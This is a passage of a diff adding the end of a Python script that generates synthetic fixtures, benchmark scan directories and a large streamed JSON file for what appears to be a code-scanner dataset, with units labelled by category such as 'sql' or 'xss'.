+    EXPECTED.mkdir(parents=True)
+    (EXPECTED / "healthy.json").write_bytes((json.dumps({"findings": []}, indent=2) + "\n").encode())
+    (EXPECTED / "damaged.json").write_bytes((json.dumps({"findings": D.findings}, indent=2, ensure_ascii=False) + "\n").encode())
+    n = check_healthy(HEALTHY, built)
+    check_damaged(D)
+    print("healthy: %d JSON files ok; damaged: %d expected findings; %.2fs" % (n, len(D.findings), time.time() - t0))
+
+
+def bench(outdir, scans, units):
+    t0 = time.time()
+    out = Path(outdir)
+    if out.exists():
+        shutil.rmtree(out)
+    P = out / "projects"
+    nfiles = 0
+    nbytes = 0
+    for i in range(scans):
+        rng = random.Random(9000 + i)
+        us = bench_units(rng, units, i)
+        sha = sha40(rng)
+        sc, d = project_scan(P, "bench-%02d" % i, dict(seed=9000 + i), us, sha,
+                             start="2026-05-%02dT09:00:00" % (1 + i % 28))
+        nfiles += len(sc.files) + 2
+        nbytes += sum(len(b) for b in sc.files.values())
+    print("bench: %d scan dirs, %d files, %.1f MB in %.1fs" % (scans, nfiles, nbytes / 1e6, time.time() - t0))
+
+
+def bigfile(out, size_mb):
+    """Stream one valid dataset-shaped JSON (json.dump indent=2 layout) of about size_mb MB."""
+    target = size_mb * 1024 * 1024
+    rng = random.Random(4242)
+    sc = Scan("big", [], seed=4242, out_dir="/tmp/big", repo_path="/home/dev/src/big", repo_name="big")
+    written = 0
+    with open(out, "wb") as f:
+        head = b'{\n  "name": "big",\n  "repository": "/home/dev/src/big",\n  "units": ['
+        f.write(head)
+        written += len(head)
+        i = 0
+        while written < target - 4096 or i == 0:
+            u = U("big/pkg%04d/module_%06d.py:handler_%06d" % (i // 100, i, i), rng.choice(["sql", "safe", "misc", "xss"]),
+                  "safe", big=rng.randint(1500, 6000), args="request")
+            sc.units = [u]
+            ds, _, _ = build_parse(sc)
+            unit = ds["units"][0]
+            s = json.dumps(unit, indent=2).replace("\n", "\n    ")
+            chunk = ("\n    " if i == 0 else ",\n    ") + s
+            b = chunk.encode()
+            f.write(b)
+            written += len(b)
+            i += 1
+        tail = ('\n  ],\n  "statistics": {\n    "total_units": %d\n  },\n  "metadata": {\n'
+                '    "generator": "python_unit_generator.py",\n    "generated_at": "2026-05-14T09:00:03.412803",\n'
+                '    "dependency_depth": 3\n  }\n}' % i).encode()
+        f.write(tail)
+    print("bigfile: %s, %d units, %d bytes" % (out, i, written + len(tail)))
+
+
+def main(argv):
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    sub = ap.add_subparsers(dest="mode")
+    b = sub.add_parser("bench")
+    b.add_argument("outdir")
+    b.add_argument("--scans", type=int, default=20)
+    b.add_argument("--units", type=int, default=2000)
+    g = sub.add_parser("bigfile")
+    g.add_argument("out")
+    g.add_argument("--size-mb", type=int, default=1024)
+    a = ap.parse_args(argv)
+    if a.mode == "bench":
+        bench(a.outdir, a.scans, a.units)
+    elif a.mode == "bigfile":
+        bigfile(a.out, a.size_mb)
+    else:
+        regenerate()
+
+
+if __name__ == "__main__":
+    main(sys.argv[1:])
